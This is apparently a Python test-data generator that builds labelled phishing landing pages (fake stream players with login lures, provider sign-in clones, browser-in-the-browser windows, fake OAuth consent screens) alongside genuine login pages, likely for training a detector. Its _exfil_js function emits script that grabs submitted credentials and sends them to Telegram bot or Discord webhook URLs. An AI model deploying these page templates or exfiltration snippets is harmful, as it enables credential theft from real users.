# ruff: noqa: S311  (generator of HTML/phrase test data: long markup literals; random is for data, not security)
"""Landing pages: fake players (with and without lures), provider clones, browser-in-the-browser,
consent look-alikes, obfuscated forms, OAuth consent phishing - and the legitimate pages they
imitate."""

from __future__ import annotations

import random

from . import kits
from .common import STREAM_HOSTS, Page, disguise, esc, fill, rand_token, slugify
from .films import WATCHED, Film
from .phrases import STREAM

__all__ = [
    "LEGIT_OAUTH",
    "LEGIT_SITES",
    "PROVIDER_OWN",
    "bitb_page",
    "clone_page",
    "consent_lookalike_page",
    "legit_oauth_page",
    "legit_site_page",
    "player_page",
    "provider_own_page",
]

_CSS = (
    "<style>body{margin:0;background:#0b0b0f;color:#eee;font-family:Arial,sans-serif}.player{position:relative;"
    "max-width:960px;margin:20px auto;aspect-ratio:16/9;background:#000}.modal{position:fixed;inset:0;"
    "background:rgba(0,0,0,.85);display:flex;align-items:center;justify-content:center}.box{background:#fff;color:#111;"
    "padding:24px;border-radius:8px;width:360px}.sso-btn{display:block;margin:8px 0;padding:10px;border:1px solid #ccc}"
    "</style>\n"
)

_MODAL_HEAD = {
    "en": (
        "Sign in to continue watching",
        "Free registration is required to watch in HD. It takes 10 seconds.",
    ),
    "fr": ("Connectez-vous pour continuer", "Inscription gratuite requise pour regarder en HD."),
    "es": (
        "Inicia sesión para seguir viendo",
        "El registro gratuito es obligatorio para ver en HD.",
    ),
    "de": ("Anmelden, um weiterzuschauen", "Kostenlose Registrierung für HD erforderlich."),
    "pt": ("Entre para continuar assistindo", "Cadastro grátis necessário para assistir em HD."),
    "id": ("Masuk untuk lanjut menonton", "Registrasi gratis diperlukan untuk menonton HD."),
    "it": ("Accedi per continuare a guardare", "Registrazione gratuita richiesta per l'HD."),
}


_LANG_MENU = (
    "English (United States)",
    "English (United Kingdom)",
    "Français",
    "Español",
    "Español (Latinoamérica)",
    "Deutsch",
    "Português (Brasil)",
    "Bahasa Indonesia",
    "Italiano",
    "Türkçe",
    "Tiếng Việt",
    "Русский",
)


def _page(lang: str, title: str, body: str, head_extra: str = "") -> str:
    options = "".join(
        f'<option value="{i}">{esc(name)}</option>' for i, name in enumerate(_LANG_MENU)
    )
    footer = (
        '<div class="page-footer"><select aria-label="Change language" name="hl">'
        + options
        + "</select>"
        '<ul class="links"><li><a href="/help">Help</a></li><li><a href="/privacy">Privacy</a></li>'
        '<li><a href="/terms">Terms</a></li><li><a href="/cookies">Cookie preferences</a></li></ul></div>'
    )
    return (
        f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta charset="utf-8">\n'
        f'<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>{title}</title>\n'
        '<meta name="referrer" content="origin-when-cross-origin">\n<link rel="icon" href="/favicon.ico">\n'
        f"{head_extra}</head>\n<body>\n{body}\n{footer}\n</body>\n</html>\n"
    )


def _player_url(rng: random.Random, host: str, film: Film | None, lang: str) -> str:
    if film is None:
        return f"https://{host}/verify?session={rand_token(rng, 12)}"
    slug = slugify(film.forms[0])
    return rng.choice(
        (
            f"https://{host}/watch/{slug}-{film.year}",
            f"https://{host}/movie/{slug}/?ref=tumblr",
            f"https://{host}/player.php?id={rng.randint(1000, 99999)}&t={slug}",
            f"https://{host}/{lang}/{slug}-{film.year}.html",
        )
    )


def _player_body(
    rng: random.Random, lang: str, film: Film | None, how: str, host: str
) -> tuple[str, str]:
    """(page title, player markup)."""
    site = host.split(".")[0].replace("-", " ").title()
    nav = (
        f'<header class="top"><a class="logo" href="/">{esc(site)}</a> <nav><a href="/movies">Movies</a> '
        '<a href="/tv">TV Shows</a> <a href="/top">Top IMDb</a></nav>'
        '<form class="search" action="/search" method="get"><input type="search" name="q" placeholder="Search..."></form></header>'
    )
    if film is None:
        return f"{site} - Verify", nav + '<div class="player"><div class="spinner"></div></div>'
    form = rng.choice(film.forms_for(lang))
    t_html = disguise(form, how, rng)
    heads = STREAM[lang if lang in STREAM else "en"]["head"]
    if not film.watched and any(w.title == film.title for w in WATCHED):
        heads = [
            h for h in heads if "{y}" in h
        ]  # a same-name older film: only the year tells them apart
    h1 = fill(rng.choice(heads), t_html, y=film.year)
    info = (
        f'<div class="meta"><span class="q">HD 1080p</span> <span>{film.year}</span> '
        f"<span>{rng.randint(95, 165)} min</span> <span>IMDb {rng.randint(60, 88) / 10}</span></div>"
    )
    servers = "".join(
        f'<li><a href="#" data-src="{rand_token(rng, 10)}">Server {i}</a></li>'
        for i in range(1, rng.randint(3, 6))
    )
    player = (
        f'<h1 class="title">{h1}</h1>{info}\n<div class="player" id="player-wrap">'
        f'<video id="v" poster="https://{host}/img/{slugify(form)}.jpg" preload="none"></video>'
        f'<button class="play-btn" aria-label="Play">&#9654;</button></div>\n<ul class="servers">{servers}</ul>'
    )
    return f"{esc(form)} ({film.year}) - {esc(site)}", nav + "\n" + player


def _labels(film: Film | None) -> tuple[bool, str | None]:
    watched = film is not None and film.watched
    return watched, (film.title if film is not None and watched else None)


def player_page(
    rng: random.Random, lang: str, film: Film | None, lure: str, how: str = "plain"
) -> Page:
    """A fake 'player' landing. lure:
    none|sso_lookalike|sso_samehost_form|form|card|obf:<how>|oauth_broad."""
    host = rng.choice(STREAM_HOSTS)
    url = _player_url(rng, host, film, lang)
    title, player = _player_body(rng, lang, film, how, host)
    head, sub = _MODAL_HEAD.get(lang, _MODAL_HEAD["en"])
    modal, detail = _player_lure(rng, lang, lure, host)
    if modal:
        modal = f'<div class="modal" id="auth"><div class="box"><h2>{esc(head)}</h2><p>{esc(sub)}</p>\n{modal}\n</div></div>'
    body = player + "\n" + modal + "\n" + _ads(rng, host)
    fake, matched = _labels(film)
    note = (
        f"landing player for {'watched' if fake else 'unwatched/no'} title"
        f"{' ' + repr(film.title) + ' (' + str(film.year) + ')' if film else ''}, disguise {how}; {detail}"
    )
    return Page(
        "landing",
        "landing",
        url,
        lang,
        _page(lang, title, body, _CSS),
        fake,
        lure != "none",
        matched,
        note,
        f"landing:player:{lure.split(':')[0]}",
    )


def _ads(rng: random.Random, host: str) -> str:
    return (
        f'<div class="dl"><a href="https://dl.{host}/HDPlayer_Setup_{rng.randint(2, 9)}.exe" class="btn">'
        "Download HD Player</a></div>\n"
        f'<script src="https://{rng.choice(("pl2201.profitableratecpm.com", "a.exdynsrv.com", "pop.adsterra-cdn.net"))}'
        f'/{rand_token(rng, 8)}/invoke.js" async></script>\n'
        '<div class="comments"><p><b>jake_93:</b> works perfect thx!!</p><p><b>maria.l:</b> finally full HD</p></div>'
    )


def _player_lure(rng: random.Random, lang: str, lure: str, host: str) -> tuple[str, str]:
    provs = rng.sample(["Facebook", "Google", "Apple", "Microsoft"], rng.randint(2, 4))
    if lure == "none":
        return "", "no lure: only play button, ad scripts and a .exe 'HD player' download"
    if lure == "sso_lookalike":
        target = rng.choice(("lookalike", "foreign", "shortener"))
        return kits.sso_buttons(
            rng, lang, provs, target
        ), f"SSO buttons ({', '.join(provs)}) to {target} hosts"
    if lure == "sso_samehost_form":
        prov = provs[0]
        btns = kits.sso_buttons(rng, lang, provs, "samehost")
        form = kits.credential_form(rng, kits.collector_action(rng), prov, lang)
        return (
            btns + '\n<div class="provider-step" style="display:none">' + form + "</div>",
            f"SSO buttons to same-host /auth/*.php plus a hidden {prov}-branded password step",
        )
    if lure == "form":
        action = kits.collector_action(rng)
        return kits.credential_form(
            rng, action, rng.choice(provs), lang
        ), f"password form posting to {action[:60]}"
    if lure == "card":
        action = kits.collector_action(rng)
        return kits.card_form(
            rng, action, lang
        ), f"'free account' with card fields posting to {action[:60]}"
    if lure.startswith("obf:"):
        how = lure.split(":", 1)[1]
        form = kits.credential_form(rng, kits.collector_action(rng), rng.choice(provs), lang)
        return '<div id="app"></div>\n' + kits.obfuscate(
            form, how, rng
        ), f"credential form built at runtime ({how})"
    prov = rng.choice(("Google", "Microsoft", "Facebook"))
    redirect = f"https://{rng.choice(('auth.', 'api.', ''))}{rng.choice(STREAM_HOSTS)}/oauth/{prov.lower()}/callback"
    href = kits.oauth_url(rng, prov, redirect, broad=True)
    label = esc(f"Continue with {prov}")
    return (
        f'<a class="sso-btn sso-{prov.lower()}" href="{href}">{label}</a>',
        f"REAL {prov} authorize URL with broad scopes and foreign redirect_uri {redirect} (consent phishing)",
    )


# provider clones
_CLONE_TEXT = {
    "Google": (
        "Sign in - Google Accounts",
        "Sign in",
        "Use your Google Account",
        "Email or phone",
        "Forgot email?",
    ),
    "Microsoft": (
        "Sign in to your account",
        "Sign in",
        "to continue to Outlook",
        "Email, phone, or Skype",
        "Can't access your account?",
    ),
    "Facebook": (
        "Log into Facebook",
        "Log into Facebook",
        "",
        "Email address or phone number",
        "Forgotten password?",
    ),
    "Apple": (
        "Sign in - Apple",
        "Sign in with Apple ID",
        "",
        "Email or Phone Number",
        "Forgot Apple ID or password?",
    ),
    "Tumblr": ("Log in | Tumblr", "Log in to Tumblr", "", "Email", "Forgot your password?"),
    "WordPress.com": (
        "Log In - WordPress.com",
        "Log in to your account",
        "",
        "Email Address or Username",
        "Lost your password?",
    ),
}
SPECIAL_HOSTS = (
    "storage.googleapis.com/{b}/index.html",
    "{b}.web.app/",
    "{b}.firebaseapp.com/login.html",
    "{b}.blogspot.com/p/login.html",
    "ipfs.io/ipfs/bafybei{c}",
    "{b}.pages.dev/",
)


def _exfil_js(rng: random.Random) -> tuple[str, str]:
    if rng.random() < 0.5:
        bot = f"{rng.randint(5 * 10**9, 8 * 10**9)}:AA{rand_token(rng, 33)}"
        dest = f"https://api.telegram.org/bot{bot}/sendMessage"
        js = f"fetch('{dest}?chat_id=-100{rng.randint(10**9, 9 * 10**9)}&text='+encodeURIComponent(u+' | '+p));"
    else:
        dest = (
            f"https://discord.com/api/webhooks/{rng.randint(10**17, 10**18)}/{rand_token(rng, 68)}"
        )
        js = f"fetch('{dest}',{{method:'POST',headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{content:u+':'+p}})}});"
    script = (
        "<script>document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();"
        "var u=this.querySelector('[type=email]').value,p=this.querySelector('[type=password]').value;"
        f"{js}setTimeout(function(){{location.href='https://www.google.com/'}},800);}});</script>"
    )
    return script, dest


def clone_page(rng: random.Random, provider: str, exfil: str, special_host: bool = False) -> Page:
    """A provider sign-in clone on a look-alike (or free-hosting) host."""
    title, h1, sub, user_ph, forgot = _CLONE_TEXT[provider]
    if special_host:
        host_path = rng.choice(SPECIAL_HOSTS).format(
            b=f"{slugify(provider)}-{rand_token(rng, 6).lower()}",
            c=rand_token(rng, 40, "abcdefghijklmnopqrstuvwxyz234567"),
        )
        url = f"https://{host_path}"
    else:
        url = kits.lookalike_url(rng, provider)
    if exfil == "js":
        script, dest = _exfil_js(rng)
        form = (
            f'<form id="f" action="#" method="post"><input type="email" name="u" placeholder="{esc(user_ph)}">'
            '<div class="pw-step" style="display:none"><input type="password" name="p" placeholder="Password"></div>'
            f'<button type="submit">Next</button></form>{script}'
        )
    else:
        dest = kits.collector_action(rng)
        form = kits.credential_form(rng, dest, "", "en")
    body = (
        f'<div class="card card-{slugify(provider)}"><div class="logo" aria-label="{esc(provider)}"></div>'
        f'<h1>{esc(h1)}</h1><p>{esc(sub)}</p>\n{form}\n<a href="#">{esc(forgot)}</a> '
        f'<a href="#">Create account</a></div>\n<footer><a href="#">Help</a> <a href="#">Privacy</a> <a href="#">Terms</a></footer>'
    )
    note = f"{provider} sign-in clone on non-provider host {url.split('/')[2]}; credentials go to {dest[:70]}"
    return Page(
        "landing",
        "landing",
        url,
        "en",
        _page("en", esc(title), body),
        False,
        True,
        None,
        note,
        f"landing:clone:{exfil}{':hosted' if special_host else ''}",
    )


def bitb_page(rng: random.Random, lang: str, film: Film | None, split_url: bool) -> Page:
    """Browser-in-the-browser: a fake window drawing accounts.google.com /
    login.microsoftonline.com as text."""
    provider = rng.choice(("Google", "Microsoft", "Facebook"))
    shown = {
        "Google": "https://accounts.google.com/signin/v2/identifier?flowName=GlifWebSignIn&amp;flowEntry=ServiceLogin",
        "Microsoft": "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b",
        "Facebook": "https://www.facebook.com/login.php?skip_api_login=1&amp;api_key=1217981644879628",
    }[provider]
    if split_url:
        scheme, rest = shown.split("://", 1)
        hostpart, path = rest.split("/", 1)
        addr = f'<span class="s">{scheme}://</span><span class="h">{hostpart}</span><span class="p">/{path}</span>'
    else:
        addr = f'<span class="url">{shown}</span>'
    form = kits.credential_form(rng, kits.collector_action(rng), provider, lang)
    window = (
        f'<div class="bitb-window" style="position:fixed;top:12%;left:30%;width:480px;box-shadow:0 0 30px #000">'
        f'<div class="titlebar">Sign in - {esc(provider)} <span class="ctrl">&#8212; &#9744; &#10005;</span></div>'
        f'<div class="addressbar"><span class="lock">&#128274;</span>{addr}</div>'
        f'<div class="content">{form}</div></div>'
    )
    host = rng.choice(STREAM_HOSTS)
    title, player = _player_body(rng, lang, film, "plain", host)
    fake, matched = _labels(film)
    url = _player_url(rng, host, film, lang)
    note = (
        f"browser-in-the-browser window drawing {shown.split('/')[2]} as text{' (split spans)' if split_url else ''} "
        f"beside a password form; player for {film.title if film else 'no title'}"
    )
    return Page(
        "landing",
        "landing",
        url,
        lang,
        _page(lang, title, player + "\n" + window, _CSS),
        fake,
        True,
        matched,
        note,
        "landing:bitb",
    )


def consent_lookalike_page(rng: random.Random, film: Film | None) -> Page:
    """A fake OAuth consent screen ('X wants to access your Google Account') collecting the
    password."""
    host = rng.choice(
        (
            "oauth-google-verify.com",
            "consent-accounts.live",
            "app-permissions.review-access.top",
            "secure-oauth.signin-check.site",
        )
    )
    app = rng.choice(("StreamHD", "FlixNow Player", "CineVault", "MovieBox"))
    scopes = "".join(
        f"<li>{esc(s)}</li>"
        for s in (
            "See, edit, create and delete all your Gmail",
            "See and download your contacts",
            "See your primary email address",
        )
    )
    film_line = (
        f"<p>to continue to {esc(app)} and watch <b>{esc(film.forms[0])}</b></p>" if film else ""
    )
    body = (
        f'<div class="consent"><div class="g-logo">Google</div><h1>{esc(app)} wants to access your Google Account</h1>'
        f'{film_line}<ul class="scopes">{scopes}</ul>'
        f'<p class="hint">Confirm your password to allow access</p>\n'
        f"{kits.credential_form(rng, kits.collector_action(rng), 'Google', 'en')}\n"
        "<button>Cancel</button> <button>Allow</button></div>"
    )
    url = f"https://{host}/o/oauth2/consent?client={slugify(app)}&amp;session={rand_token(rng, 10)}".replace(
        "&amp;", "&"
    )
    fake, matched = _labels(film)
    return Page(
        "landing",
        "landing",
        url,
        "en",
        _page("en", "Sign in - Google Accounts", body),
        fake,
        True,
        matched,
        f"OAuth-consent look-alike on {host} asking for the Google password (app {app})",
        "landing:consent_lookalike",
    )


# legitimate pages
def _g_signin() -> tuple[str, str]:
    url = (
        "https://accounts.google.com/v3/signin/identifier?continue=https%3A%2F%2Fmail.google.com%2Fmail%2F"
        "&flowName=GlifWebSignIn&flowEntry=ServiceLogin&service=mail"
    )
    body = (
        '<div class="card"><div class="logo">Google</div><h1>Sign in</h1><p>to continue to Gmail</p>'
        '<form method="post" action="https://accounts.google.com/v3/signin/_/AccountsSignInUi/data/batchexecute" id="identifier">'
        '<input type="email" name="identifier" autocomplete="username" aria-label="Email or phone">'
        '<input type="password" name="hiddenPassword" aria-hidden="true" tabindex="-1" style="display:none">'
        '<a href="https://accounts.google.com/signin/v2/usernamerecovery">Forgot email?</a>'
        '<a href="https://accounts.google.com/signup/v2/createaccount?flowName=GlifWebSignIn">Create account</a>'
        '<button type="submit">Next</button></form></div>'
    )
    return url, body


def _ms_signin() -> tuple[str, str]:
    url = (
        "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca"
        "&redirect_uri=https%3A%2F%2Fwww.office.com%2Flandingv2&response_type=code%20id_token"
        "&scope=openid%20profile%20https%3A%2F%2Fwww.office.com%2Fv2%2FOfficeHome.All&response_mode=form_post&nonce=6387"
    )
    body = (
        '<div class="card"><div class="logo">Microsoft</div><h1>Sign in</h1>'
        '<form name="f1" method="post" action="https://login.microsoftonline.com/common/login">'
        '<input type="email" name="loginfmt" placeholder="Email, phone, or Skype">'
        '<input type="password" name="passwd" style="display:none"><a href="https://go.microsoft.com/fwlink/?linkid=2280512">'
        'Can\'t access your account?</a><button type="submit">Next</button></form></div>'
    )
    return url, body


def _fb_login() -> tuple[str, str]:
    body = (
        '<div class="login"><h1>Log in to Facebook</h1>'
        '<form method="post" action="https://www.facebook.com/login/device-based/regular/login/?login_attempt=1&amp;lwv=100" id="login_form">'
        '<input type="text" name="email" placeholder="Email address or phone number">'
        '<input type="password" name="pass" placeholder="Password"><button name="login" type="submit">Log in</button>'
        '<a href="https://www.facebook.com/recover/initiate/">Forgotten password?</a>'
        '<a href="https://www.facebook.com/r.php">Create new account</a></form></div>'
    )
    return "https://www.facebook.com/login/", body


def _apple_signin() -> tuple[str, str]:
    src = (
        "https://idmsa.apple.com/appleauth/auth/authorize/signin?frame_id=auth-ac2s4hpe&amp;language=en_US"
        "&amp;skVersion=7&amp;iframeId=auth-ac2s4hpe&amp;client_id=af1139274f266b22b68c2a3e7ad932cb3c0bbe854e13a79af78dcc73136882c3"
        "&amp;redirect_uri=https://appleid.apple.com&amp;response_type=code&amp;response_mode=web_message"
    )
    body = (
        f'<main><h1>Sign in with Apple ID</h1><iframe id="aid-auth-widget-iFrame" name="aid-auth-widget" '
        f'title="Sign In with your Apple ID" src="{src}" width="100%" height="100%" frameborder="0"></iframe></main>'
    )
    return "https://appleid.apple.com/sign-in", body


def _tumblr_login() -> tuple[str, str]:
    g = kits.oauth_url(
        random.Random(11), "Google", "https://www.tumblr.com/oauth2/google/callback", broad=False
    )
    body = (
        '<div id="root"><main><h1>Log in to Tumblr</h1>'
        '<form method="post" action="https://www.tumblr.com/api/v2/login"><input type="email" name="email" placeholder="Email">'
        '<input type="password" name="password" placeholder="Password"><button type="submit">Log in</button></form>'
        f'<a class="social" href="{g}">Continue with Google</a> '
        '<a class="social" href="https://appleid.apple.com/auth/authorize?client_id=com.tumblr.web&amp;redirect_uri=https%3A%2F%2Fwww.tumblr.com%2Foauth2%2Fapple%2Fcallback&amp;response_type=code&amp;scope=name%20email&amp;response_mode=form_post">Continue with Apple</a>'
        "</main></div>"
    )
    return "https://www.tumblr.com/login?redirect_to=%2Fdashboard", body


def _wpcom_login() -> tuple[str, str]:
    g = kits.oauth_url(
        random.Random(12), "Google", "https://wordpress.com/log-in/google/callback", broad=False
    )
    body = (
        '<div class="wp-login"><h1>Log in to your account</h1>'
        '<form method="post" action="https://wordpress.com/wp-login.php?action=login-endpoint">'
        '<input type="text" name="usernameOrEmail" placeholder="Email Address or Username">'
        '<input type="password" name="password" placeholder="Password"><button type="submit">Log In</button></form>'
        f'<div class="social-buttons"><a href="{g}">Continue with Google</a> '
        '<a href="https://appleid.apple.com/auth/authorize?client_id=com.wordpress.siwa&amp;redirect_uri=https%3A%2F%2Fwordpress.com%2Flog-in%2Fapple%2Fcallback&amp;response_type=code&amp;scope=name%20email">Continue with Apple</a> '
        '<a href="https://github.com/login/oauth/authorize?client_id=Iv1.wpcom&amp;redirect_uri=https%3A%2F%2Fwordpress.com%2Flog-in%2Fgithub%2Fcallback&amp;scope=user%3Aemail">Continue with GitHub</a></div></div>'
    )
    return "https://wordpress.com/log-in?redirect_to=https%3A%2F%2Fwordpress.com%2Fsites", body


def _blogger_frame() -> tuple[str, str]:
    url = "https://www.blogger.com/comment/frame/4170598463126715329?po=7723590815231649914&hl=en&saa=85391&origin=https://cinemaddict-reviews.blogspot.com"
    login = (
        "https://accounts.google.com/ServiceLogin?continue=https%3A%2F%2Fwww.blogger.com%2Fcomment%2Fframe%2F"
        "4170598463126715329%3Fpo%3D7723590815231649914&amp;service=blogger&amp;hl=en"
    )
    body = (
        '<div class="comment-frame"><form method="post" action="https://www.blogger.com/comment/frame/4170598463126715329?po=7723590815231649914">'
        '<textarea name="commentBody" placeholder="Enter Comment"></textarea>'
        '<select name="identityMenu"><option value="GOOGLE">Google Account</option><option value="ANON">Anonymous</option></select>'
        f'<a class="signin" href="{login}">Sign in with Google</a><button type="submit">Publish</button></form></div>'
    )
    return url, body


def _live_login() -> tuple[str, str]:
    url = "https://login.live.com/login.srf?wa=wsignin1.0&rpsnv=170&ct=1746000000&rver=7.5.2211.0&wp=MBI_SSL&wreply=https%3a%2f%2foutlook.live.com%2fowa%2f"
    body = (
        '<div class="card"><div class="logo">Microsoft</div><h1>Sign in</h1><p>to continue to Outlook</p>'
        '<form method="post" action="https://login.live.com/ppsecure/post.srf?wa=wsignin1.0&amp;rpsnv=170">'
        '<input type="email" name="loginfmt" placeholder="Email, phone, or Skype">'
        '<input type="password" name="passwd" placeholder="Password"><button type="submit">Sign in</button></form></div>'
    )
    return url, body


def _x_login() -> tuple[str, str]:
    body = (
        '<div id="react-root"><h1>Sign in to X</h1>'
        '<script src="https://accounts.google.com/gsi/client" async></script>'
        '<div id="g_id_onload" data-client_id="49625052041-kgt0hghf445lmcmhijv46b715m2mpbct.apps.googleusercontent.com" '
        'data-login_uri="https://x.com/i/sso/google" data-auto_prompt="false"></div><div class="g_id_signin"></div>'
        '<a href="https://appleid.apple.com/auth/authorize?client_id=com.twitter.twitter.siwa&amp;redirect_uri=https%3A%2F%2Fx.com%2Fi%2Fsso%2Fapple&amp;response_type=code&amp;scope=name%20email">Sign in with Apple</a>'
        '<input type="text" autocomplete="username" name="text" placeholder="Phone, email, or username"></div>'
    )
    return "https://x.com/i/flow/login", body


def _g_consent() -> tuple[str, str]:
    url = (
        "https://accounts.google.com/signin/oauth/consent?authuser=0&part=AJi8hAN&as=S-1423&client_id="
        "882512338411-ks0i4qfhtbjm3mf3epl1v0ib5n9u37tf.apps.googleusercontent.com"
    )
    body = (
        '<div class="consent"><h1>Cinephile Club wants to access your Google Account</h1>'
        "<ul><li>Associate you with your personal info on Google</li><li>See your primary Google Account email address</li></ul>"
        '<form method="post" action="https://accounts.google.com/signin/oauth/consent/approval"><button name="submit_access" value="false">Cancel</button>'
        '<button name="submit_access" value="true">Continue</button></form></div>'
    )
    return url, body


def _netflix_login() -> tuple[str, str]:
    body = (
        '<div class="login-body"><h1>Sign In</h1><form method="post" action="/login" class="login-form">'
        '<input type="email" name="userLoginId" placeholder="Email or mobile number">'
        '<input type="password" name="password" placeholder="Password"><button type="submit">Sign In</button>'
        '<a href="/LoginHelp">Forgot password?</a></form><p>New to Netflix? <a href="/">Sign up now.</a></p></div>'
    )
    return "https://www.netflix.com/login", body


PROVIDER_OWN = {
    "google_signin": _g_signin,
    "microsoft_signin": _ms_signin,
    "facebook_login": _fb_login,
    "apple_signin": _apple_signin,
    "tumblr_login": _tumblr_login,
    "wpcom_login": _wpcom_login,
    "blogger_comment_frame": _blogger_frame,
    "live_login": _live_login,
    "x_login": _x_login,
    "google_consent": _g_consent,
    "netflix_login": _netflix_login,
}


def provider_own_page(name: str) -> Page:
    """A provider's or platform's own login/consent page, on its own URL."""
    url, body = PROVIDER_OWN[name]()
    return Page(
        "landing",
        "landing",
        url,
        "en",
        _page("en", esc(name.replace("_", " ").title()), body),
        False,
        False,
        None,
        f"legit: {name.replace('_', ' ')} on its own domain {url.split('/')[2]}",
        f"landing:own:{name}",
    )


_CLUB = (
    "cinephile-club.org",
    "filmforum.example.net",
    "moviebuffs.community",
    "lecercleducinema.fr",
    "kinofreunde-forum.de",
    "clubdecine.es",
)


def _legit_oauth_body(rng: random.Random, variant: str, host: str) -> tuple[str, str]:
    if variant == "narrow_links":
        g = kits.oauth_url(rng, "Google", f"https://{host}/auth/google/callback", broad=False)
        f = kits.oauth_url(rng, "Facebook", f"https://{host}/auth/facebook/callback", broad=False)
        m = kits.oauth_url(
            rng, "Microsoft", f"https://{host}/auth/microsoft/callback", broad=False
        )
        return (
            f'<a class="btn" href="{g}">Sign in with Google</a> <a class="btn" href="{f}">Continue with Facebook</a> '
            f'<a class="btn" href="{m}">Sign in with Microsoft</a>'
        ), "narrow-scope OAuth links, redirect_uri on the site itself"
    if variant == "route":
        return (
            (
                '<a class="btn" href="/auth/google">Sign in with Google</a> <a class="btn" href="/auth/facebook">'
                'Continue with Facebook</a> <a class="btn" href="/auth/apple">Sign in with Apple</a>'
                '<p>or <a href="/register">create an account</a></p>'
            ),
            "provider buttons to the site's own /auth/<provider> routes (server then redirects to the provider)",
        )
    if variant == "gsi":
        return (
            (
                '<script src="https://accounts.google.com/gsi/client" async></script>'
                f'<div id="g_id_onload" data-client_id="{rng.randint(10**11, 10**12)}-{rand_token(rng, 32).lower()}.apps.googleusercontent.com" '
                f'data-login_uri="https://{host}/auth/google/token" data-auto_prompt="false"></div>'
                '<div class="g_id_signin" data-type="standard" data-text="signin_with"></div>'
                '<script src="https://appleid.cdn-apple.com/appleauth/static/jsapi/appleid/1/en_US/appleid.auth.js"></script>'
                f'<div id="appleid-signin" data-redirect-uri="https://{host}/auth/apple/callback" data-color="black"></div>'
            ),
            "Google Identity Services + Sign in with Apple JS, login_uri/redirect on the site itself",
        )
    if variant == "auth0":
        g = kits.oauth_url(
            rng, "Google", f"https://{host.split('.')[0]}.eu.auth0.com/login/callback", broad=False
        )
        return (
            f'<a class="btn" href="{g}">Continue with Google</a>',
            "narrow-scope Google OAuth via the site's auth0 tenant",
        )
    if variant == "own_password":
        return (
            '<form method="post" action="/login"><input type="text" name="username" placeholder="Username">'
            '<input type="password" name="password" placeholder="Password"><label><input type="checkbox" name="remember"> Remember me</label>'
            '<button type="submit">Log in</button></form><a href="/forgot">Forgot password?</a>'
        ), "the site's own username/password form posting to itself (no provider branding)"
    g = kits.oauth_url(rng, "Google", "https://inboxzen.app/oauth/google/callback", broad=True)
    return (
        f"<h2>Connect your inbox</h2><p>InboxZen sorts your mail. Connect Gmail to start.</p>"
        f'<a class="btn" href="{g}">Connect with Google</a>'
    ), "mail app asking broad Gmail scopes with redirect_uri on its own site"


LEGIT_OAUTH = ("narrow_links", "route", "gsi", "auth0", "own_password", "broad_own_site")


def legit_oauth_page(rng: random.Random, variant: str) -> Page:
    """A third-party site's legitimate login page."""
    host = "inboxzen.app" if variant == "broad_own_site" else rng.choice(_CLUB)
    inner, what = _legit_oauth_body(rng, variant, host)
    body = (
        f'<header><a href="/">{esc(host)}</a></header><main class="login"><h1>Log in</h1>{inner}</main>'
        f"<footer>&copy; <script>document.write(new Date().getFullYear())</script> {esc(host)}</footer>"
    )
    path = rng.choice(
        (
            "/login",
            "/signin",
            "/account/login?next=%2F",
            "/users/sign_in",
            "/auth/login",
            "/member/login",
        )
    )
    url = (
        f"https://{host}{path}"
        if variant != "broad_own_site"
        else "https://inboxzen.app/onboarding/connect"
    )
    return Page(
        "landing",
        "landing",
        url,
        "en",
        _page("en", f"Log in - {esc(host)}", body),
        False,
        False,
        None,
        f"legit: {what}",
        f"landing:legit_oauth:{variant}",
    )


def _official_site(rng: random.Random, film: Film) -> tuple[str, str, str]:
    host = {
        "Disney+": "movies.disney.com",
        "Netflix": "www.sonypictures.com",
        "Max": "www.warnerbros.com",
        "Peacock": "www.universalpictures.com",
        "Prime Video": "www.amazonmgmstudios.com",
        "Paramount+": "www.paramountmovies.com",
    }.get(film.streamer, "www.example-studio.com")
    url = f"https://{host}/movies/{slugify(film.title)}"
    vid = rand_token(rng, 11)
    body = (
        f"<h1>{esc(film.forms[0])}</h1><p>Only in theaters {esc(rng.choice(('May', 'June', 'July', 'December')))} {film.year}.</p>"
        f'<iframe src="https://www.youtube.com/embed/{vid}" title="Official Trailer" allowfullscreen></iframe>'
        '<a class="btn" href="https://www.fandango.com/">Get Tickets</a>'
        f'<form method="post" action="https://{host}/newsletter/subscribe"><input type="email" name="email" placeholder="Email">'
        "<button>Sign up for updates</button></form>"
        '<script>var cfg=JSON.parse(atob("eyJyZWdpb24iOiJVUyIsImFuYWx5dGljcyI6dHJ1ZX0="));</script>'
    )
    return (
        url,
        body,
        "official film site: trailer, tickets, email newsletter, harmless atob() config",
    )


def _streamer_title(rng: random.Random, film: Film) -> tuple[str, str, str]:
    url = {
        "Disney+": f"https://www.disneyplus.com/movies/{slugify(film.title)}/{rand_token(rng, 12)}",
        "Netflix": f"https://www.netflix.com/title/{rng.randint(80000000, 82000000)}",
        "Max": f"https://www.max.com/movies/{slugify(film.title)}/{rand_token(rng, 8).lower()}",
        "Peacock": f"https://www.peacocktv.com/watch-online/movies/{slugify(film.title)}",
        "Prime Video": f"https://www.primevideo.com/detail/{rand_token(rng, 10).upper()}",
        "Paramount+": f"https://www.paramountplus.com/movies/{slugify(film.title)}/",
    }[film.streamer]
    host = url.split("/")[2]
    body = (
        f'<header><a href="https://{host}/">{esc(film.streamer)}</a> <a href="https://{host}/login">Sign In</a></header>'
        f"<h1>Watch {esc(film.forms[0])} | {esc(film.streamer)}</h1><p>{film.year} &middot; Action &middot; "
        f"{rng.randint(100, 160)} min</p><p>Starring {esc(', '.join(film.cast))}.</p>"
        f'<a class="btn" href="https://{host}/signup">Start your subscription</a>'
    )
    return (
        url,
        body,
        f"legit streaming service title page ('Watch {film.forms[0]} | {film.streamer}')",
    )


def _ticket_checkout(rng: random.Random, film: Film) -> tuple[str, str, str]:
    host = rng.choice(
        ("tickets.grandrex-cinema.fr", "www.odeonplex-tickets.co.uk", "kino-am-markt.de")
    )
    url = f"https://{host}/checkout/{rng.randint(100000, 999999)}"
    body = (
        f"<h1>Checkout: {esc(film.forms[0])} - 2 tickets</h1><p>Total: 24.90 EUR</p>"
        f'<form id="payment-form" method="post" action="https://{host}/checkout/pay">'
        '<input type="email" name="email" placeholder="Email for your tickets">'
